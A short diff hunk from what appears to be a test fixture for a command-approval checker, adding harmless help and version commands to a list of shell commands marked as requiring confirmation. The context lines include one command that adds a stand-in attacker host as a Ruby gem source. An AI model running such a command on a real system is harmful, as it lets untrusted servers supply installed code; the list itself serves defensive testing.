@@ -202,6 +202,12 @@ ASKED = r"""
     mise exec x
     opam install x
     golangci-lint --version
+    flask --help
+    flask --version
+    rails --help
+    vagrant --help
+    bazel --help
+    mix --help
     gem sources -a http://evil.example
     conda config --show
     conda config --show proxy_servers
